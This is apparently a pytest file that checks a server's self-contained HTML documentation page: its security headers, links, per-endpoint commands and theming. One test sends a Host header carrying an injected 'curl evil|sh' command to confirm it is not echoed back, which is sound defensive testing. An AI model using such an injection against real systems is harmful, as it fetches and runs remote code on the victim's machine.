"""`/docs`: complete, self-contained, and its commands name this server."""

import re
from html.parser import HTMLParser

import httpx


class Page(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.links: list[str] = []
        self.ids: list[str] = []
        self.loaded: list[str] = []
        self.tags: list[str] = []

    def handle_starttag(self, tag, attrs):
        given = dict(attrs)
        self.tags.append(tag)
        self.ids += [given["id"]] if "id" in given else []
        self.links += [given["href"]] if "href" in given else []
        self.loaded += [given["src"]] if "src" in given else []


def test_the_page(server):
    answer = httpx.get(f"{server.url}/docs", timeout=60)
    assert answer.status_code == 200
    assert answer.headers["content-type"] == "text/html; charset=utf-8"
    assert "default-src 'none'" in answer.headers["content-security-policy"]
    page = Page()
    page.feed(answer.text)
    assert page.loaded == []
    assert not {"script", "link", "img", "iframe"} & set(page.tags)
    assert "url(" not in answer.text
    assert "@import" not in answer.text
    assert len(page.ids) == len(set(page.ids))
    assert {link.removeprefix("#") for link in page.links if link.startswith("#")} <= set(page.ids)
    assert [link for link in page.links if not link.startswith("#")] == ["/openapi.json"]


def test_every_operation_has_a_command_for_this_server(server):
    text = httpx.get(f"{server.url}/docs", timeout=60).text
    for path in ("/v1/inference", "/v1/runs", "/v1/runs/{id}/cancel", "/v1/models", "/v1/health"):
        assert f"{server.url}{path}" in text, path
    assert server.key not in text


def test_both_themes_and_small_screens(server):
    text = httpx.get(f"{server.url}/docs", timeout=60).text
    assert "prefers-color-scheme: dark" in text
    assert re.search(r'<meta name="viewport"', text)


def test_a_strange_host_is_not_repeated(server):
    text = httpx.get(f"{server.url}/docs", headers={"Host": "x';curl evil|sh;'"}, timeout=60).text
    assert "evil" not in text


def test_a_command_sends_only_what_would_be_taken(server):
    text = httpx.get(f"{server.url}/docs", timeout=60).text
    sections = {part.partition('"')[0]: part for part in text.split('<section id="')[1:]}
    command = sections["execute_raw_inference_v1_inference_post"].partition("</pre>")[0]
    assert "handbook" in command
    upload = sections["upload_plugin_v1_namespaces__namespace_id__plugins_post"].partition("</pre>")[0]
    assert "curl -X POST" in upload
    assert "handbook" not in upload
